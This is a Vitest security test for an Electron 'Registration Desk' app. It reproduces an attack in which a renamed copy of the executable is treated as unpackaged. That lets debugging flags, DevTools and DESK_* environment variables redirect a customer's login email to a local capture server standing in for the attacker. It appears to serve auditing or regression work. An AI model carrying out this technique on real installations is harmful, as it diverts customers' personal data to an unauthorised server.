import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { createServer, type Server } from 'node:http'
import { mkdirSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { electronMock, fake, FakeBrowserWindow, ourWindowEvent } from '../../support/electron-mock'

vi.mock('electron', () => ({ default: electronMock, ...electronMock }))

/**
 * ATTACK (attack3): a clerk copies the installed, signed app out of Program Files (readable by every account) into
 * their own folder and renames "Registration Desk.exe" to "electron.exe". Electron decides `app.isPackaged` from the
 * executable's NAME alone (lib/browser/api/app.ts):
 *   const execFile = path.basename(process.execPath).toLowerCase()
 *   return process.platform === 'win32' ? execFile !== 'electron.exe' : execFile !== 'electron'
 * The binary, its fuses and app.asar (with its integrity hash) are unchanged, so the copy starts as the genuine app,
 * but main believes it is a development run: no command-line screening, DevTools on, every DESK_* variable honoured.
 * A shortcut on the shared PC's desktop / taskbar (user-writable) then serves every clerk and customer of the branch.
 */
const isPackagedAsElectronDecides = (execPath: string, platform: string) => {
  const execFile = (platform === 'win32' ? execPath.split('\\') : execPath.split('/')).at(-1)!.toLowerCase()
  return platform === 'win32' ? execFile !== 'electron.exe' : execFile !== 'electron'
}

const copiedExe = 'C:\\Users\\branch\\AppData\\Local\\desk\\electron.exe'
const captured: { url: string; body: string }[] = []
let server: Server

describe('attack3: a renamed copy of the installed app is "not packaged"', () => {
  const argv = process.argv
  beforeAll(async () => {
    // the clerk's own "platform": records what it receives
    server = createServer((req, res) => {
      let body = ''
      req.on('data', (c) => (body += c))
      req.on('end', () => {
        captured.push({ url: req.url ?? '', body })
        res.setHeader('content-type', 'application/json')
        res.end(JSON.stringify({ code: '0', msg: 'ok', data: {} }))
      })
    })
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', () => r()))
    const port = (server.address() as { port: number }).port

    // the office's real preset, inside the copied app.asar (pins, direct proxy, staff mode, agent codes allowed)
    const preset = join(fake.app.getAppPath(), 'office', 'office.json')
    mkdirSync(join(fake.app.getAppPath(), 'office'), { recursive: true })
    writeFileSync(
      preset,
      JSON.stringify({
        platform: { mode: 'remote', baseUrl: 'https://api.broker.example/api', companyId: '880012' },
        network: { proxy: { mode: 'direct' }, pins: { platform: ['rDv1/ajmfmvpm+JV0WFrqyxEM3b7jCVzV4uuDSQ8gOo=', 'x8ctb4t0TCbXPnimpE7K/uLTn4ujockRwMOfnMkZ1Xo='] } },
        office: { code: 'HK-01', name: 'Central branch' },
        registration: { agentCodeEnabled: true },
        staffMode: { enabled: true },
        links: { allowList: ['help.broker.example'] },
      }),
    )
    fake.app.isPackaged = isPackagedAsElectronDecides(copiedExe, 'win32')
    // the shortcut's command line and the account's environment (HKCU\Environment), both the clerk's to set
    process.argv = [copiedExe, '--remote-debugging-port=9222', '--proxy-server=127.0.0.1:8888']
    process.env.DESK_OFFICE_FILE = preset
    process.env.DESK_API_URL = `http://127.0.0.1:${port}/api`
    process.env.DESK_COMPANY_ID = '880012'
    process.env.DESK_CAMPAIGN_DEFAULTS = 'utm_source=branch-hk01&agent=CLERK-7'
    await import('../../../electron/main/index')
    fake.app.readyResolve()
    await vi.waitFor(() => expect(FakeBrowserWindow.instances.length).toBeGreaterThan(0), { timeout: 5000 })
    await new Promise((r) => setTimeout(r, 20))
  })
  afterAll(() => {
    process.argv = argv
    for (const k of ['DESK_OFFICE_FILE', 'DESK_API_URL', 'DESK_COMPANY_ID', 'DESK_CAMPAIGN_DEFAULTS']) delete process.env[k]
    server.close()
  })

  it('Electron itself calls the renamed copy unpackaged', () => {
    expect(isPackagedAsElectronDecides(copiedExe, 'win32')).toBe(false)
    expect(isPackagedAsElectronDecides('C:\\Program Files\\Registration Desk\\Registration Desk.exe', 'win32')).toBe(true)
  })

  it('starts with --remote-debugging-port and --proxy-server, and with DevTools on', () => {
    expect(FakeBrowserWindow.instances).toHaveLength(1)
    expect(FakeBrowserWindow.instances[0]!.options.webPreferences.devTools).toBe(true)
  })

  it('shows the office\'s own identity from the genuine preset, while the environment sets the agent code', async () => {
    const info = (await fake.handled.get('desk:app:info')!(ourWindowEvent(), undefined)) as { ok: boolean; value: Record<string, unknown> }
    expect(JSON.stringify(info.value)).toContain('HK-01')
    const campaign = (await fake.handled.get('desk:campaign:get')!(ourWindowEvent(), undefined)) as { value: { values: Record<string, string>; origin: string } }
    expect(campaign.value).toMatchObject({ origin: 'office', values: { agentCode: 'CLERK-7' } })
  })

  it('sends the customer\'s login to the platform the clerk named in the environment (not the pinned one)', async () => {
    await fake.handled.get('desk:registration:send-code')!(ourWindowEvent(), { login: { method: 'email', email: 'walk-in@customer.example' }, country: 'HK' })
    expect(captured.some((c) => c.body.includes('walk-in@customer.example'))).toBe(true)
  })
})
